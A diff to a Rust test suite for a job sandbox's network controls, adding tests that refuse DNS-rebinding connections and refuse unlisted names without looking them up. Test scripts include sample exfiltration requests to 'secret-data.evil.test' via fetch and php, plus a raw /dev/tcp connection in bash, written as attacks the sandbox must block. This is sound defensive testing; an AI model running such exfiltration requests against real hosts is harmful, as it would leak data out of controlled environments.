@@ -1058,15 +1058,21 @@ fn a_js_jobs_network_limits_refuse_or_end_the_excess_by_name() {
     assert_eq!(hits.load(Ordering::SeqCst), before, "{log}");
 }
 
+/// The names a DNS server was asked about.
+type Asked = Arc<std::sync::Mutex<Vec<String>>>;
+
 /// A DNS server on 127.0.0.1 (UDP) for `--net-resolver`: `rebind.test`
-/// is 127.0.0.1 at its first A question and 127.0.0.2 after; every
-/// other name does not exist. Its port, and the A questions it was asked
-/// for `rebind.test`.
-fn dns_server() -> (u16, Arc<AtomicUsize>) {
+/// is 127.0.0.1 at its first A question and 127.0.0.2 after;
+/// `allowed.test` is 127.0.0.1; every other name does not exist. Its
+/// port, the A questions it was asked for `rebind.test`, and every name
+/// it was asked about.
+fn dns_server() -> (u16, Arc<AtomicUsize>, Asked) {
     let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
     let port = s.local_addr().unwrap().port();
     let asked = Arc::new(AtomicUsize::new(0));
     let a = asked.clone();
+    let names: Asked = Default::default();
+    let all = names.clone();
     std::thread::spawn(move || {
         let mut buf = [0u8; 512];
         loop {
@@ -1083,18 +1089,19 @@ fn dns_server() -> (u16, Arc<AtomicUsize>) {
                 at += 1 + len;
             }
             let name = labels.join(".");
+            all.lock().unwrap().push(name.clone());
             let qtype = u16::from_be_bytes([q[at + 1], q[at + 2]]);
             let mut r = q[..at + 5].to_vec();
             r[2] = 0x81;
             r[3] = 0x80;
-            let ip = if name == "rebind.test" && qtype == 1 {
-                Some(if a.fetch_add(1, Ordering::SeqCst) == 0 {
+            let ip = match (name.as_str(), qtype) {
+                ("rebind.test", 1) => Some(if a.fetch_add(1, Ordering::SeqCst) == 0 {
                     [127, 0, 0, 1]
                 } else {
                     [127, 0, 0, 2]
-                })
-            } else {
-                None
+                }),
+                ("allowed.test", 1) => Some([127, 0, 0, 1]),
+                _ => None,
             };
             match ip {
                 Some(ip) => {
@@ -1102,13 +1109,13 @@ fn dns_server() -> (u16, Arc<AtomicUsize>) {
                     r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
                     r.extend_from_slice(&ip);
                 }
-                None if name == "rebind.test" => {}
+                None if name == "rebind.test" || name == "allowed.test" => {}
                 None => r[3] |= 3, // no such name
             }
             let _ = s.send_to(&r, from);
         }
     });
-    (port, asked)
+    (port, asked, names)
 }
 
 /// The host asks for a name once per connection and connects to exactly
@@ -1118,20 +1125,22 @@ fn dns_server() -> (u16, Arc<AtomicUsize>) {
 #[test]
 fn a_name_that_rebinds_reaches_only_what_the_host_judged() {
     let env = Env::new();
-    let (dns, asked) = dns_server();
+    let (dns, asked, names) = dns_server();
     let (allowed, hits) = http_server("allowed-bytes", String::new());
     // The same port on 127.0.0.2: where the name points at its second
     // lookup.
     let elsewhere = TcpListener::bind(("127.0.0.2", allowed));
     let script = format!(
         "(async () => {{\n\
-           for (const [what, url] of [['first', 'http://rebind.test:{allowed}/'], ['second', 'http://REBIND.test.:{allowed}/'], ['unknown', 'http://unknown.test:{allowed}/']]) {{\n\
+           for (const [what, url] of [['first', 'http://rebind.test:{allowed}/'], ['second', 'http://REBIND.test.:{allowed}/'], ['unknown', 'http://unknown.test:{allowed}/'], ['unnamed', 'http://secret-data.evil.test:{allowed}/']]) {{\n\
              try {{ const r = await fetch(url); console.log(`${{what}}: ${{r.status}} ${{await r.text()}}`); }}\n\
              catch (e) {{ console.log(`${{what}}: error ${{e.cause.code}}`); }}\n\
            }}\n\
          }})();\n"
     );
-    let settings = format!(r#"{{"network": ["http://127.0.0.1:{allowed}"]}}"#);
+    let settings = format!(
+        r#"{{"network": ["http://rebind.test:{allowed}", "http://unknown.test:{allowed}", "http://127.0.0.1:{allowed}"]}}"#
+    );
     env.deploy_files(
         "rebind",
         &[("run.js", &script), ("settings.job", &settings)],
@@ -1158,13 +1167,27 @@ fn a_name_that_rebinds_reaches_only_what_the_host_judged() {
     assert!(line_of(&log, "second").ends_with("error EACCES"), "{log}");
     assert!(
         log.contains(&format!(
-            "rebind.test:{allowed} (127.0.0.2): refused: no pattern of the job's allows it"
+            "rebind.test:{allowed} (127.0.0.2): refused: 127.0.0.2 is a loopback address"
         )),
         "{log}"
     );
     assert!(
         line_of(&log, "unknown").ends_with("error ENOTFOUND"),
         "{log}"
+    );
+    // A name no pattern names is never asked about (a way to send data
+    // out through the host's lookups).
+    assert!(line_of(&log, "unnamed").ends_with("error EACCES"), "{log}");
+    assert!(
+        log.contains(
+            "secret-data.evil.test: refused without a lookup: no pattern of the job's names it"
+        ),
+        "{log}"
+    );
+    assert!(
+        !names.lock().unwrap().iter().any(|n| n.contains("evil")),
+        "{:?}",
+        names.lock().unwrap()
     );
     // One question per connection, and nothing reached 127.0.0.2.
     assert_eq!(asked.load(Ordering::SeqCst), 2, "{log}");
@@ -1300,4 +1323,68 @@ echo "curl direct: $(curl -sS -m 10 --noproxy '*' http://127.0.0.1:{allowed}/ 2>
     );
     assert_eq!(hits.load(Ordering::SeqCst), 6, "{log}");
     assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
+}
+
+/// A native job's own lookups are answered by the host: a name a pattern
+/// names resolves (by the operator's `--net-resolver` here) and its
+/// connection is judged as that name; any other name is refused without
+/// asking anyone.
+#[test]
+fn a_native_jobs_own_lookups_are_answered_by_the_host() {
+    let env = Env::new();
+    if let Err(why) = native_with_curl(&env) {
+        return skip(&why);
+    }
+    if !is_root() {
+        return skip("relaying a native job's own connections needs a root host");
+    }
+    let (dns, _, names) = dns_server();
+    let (allowed, hits) = http_server("allowed-bytes", String::new());
+    let script = format!(
+        r#"echo "php: $(php -r 'echo @file_get_contents("http://allowed.test:{allowed}/") ?: "failed";' 2>&1)"
+echo "bash: $( (exec 3<>/dev/tcp/allowed.test/{allowed}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; tail -1 <&3) 2>&1)"
+echo "unnamed: $(php -r 'echo @file_get_contents("http://secret-data.evil.test:{allowed}/") ?: "failed";' 2>&1)"
+"#
+    );
+    let settings =
+        format!(r#"{{"network": ["http://allowed.test:{allowed}", "tcp://127.0.0.1:{allowed}"]}}"#);
+    env.deploy_files(
+        "lookups",
+        &[("run.sh", &script), ("settings.job", &settings)],
+    );
+    env.cmd()
+        .args(["--executor", "native", "--network"])
+        .arg(format!("public,tcp://127.0.0.1:{allowed}"))
+        .args([
+            "--net-resolver",
+            &format!("127.0.0.1:{dns}"),
+            "run",
+            "lookups",
+        ])
+        .output()
+        .unwrap();
+    let log = env.latest_log("lookups");
+    assert!(line_of(&log, "php").ends_with("allowed-bytes"), "{log}");
+    assert!(line_of(&log, "bash").ends_with("allowed-bytes"), "{log}");
+    assert!(line_of(&log, "unnamed").ends_with("failed"), "{log}");
+    assert!(
+        log.contains("Network: looked up allowed.test for the job: 127.0.0.1"),
+        "{log}"
+    );
+    assert!(
+        log.contains(&format!(
+            "connected to allowed.test:{allowed} (127.0.0.1) (the job's own connection, relayed by the host)"
+        )),
+        "{log}"
+    );
+    assert!(
+        log.contains("secret-data.evil.test: refused without a lookup"),
+        "{log}"
+    );
+    assert!(
+        !names.lock().unwrap().iter().any(|n| n.contains("evil")),
+        "{:?}",
+        names.lock().unwrap()
+    );
+    assert_eq!(hits.load(Ordering::SeqCst), 2, "{log}");
 }
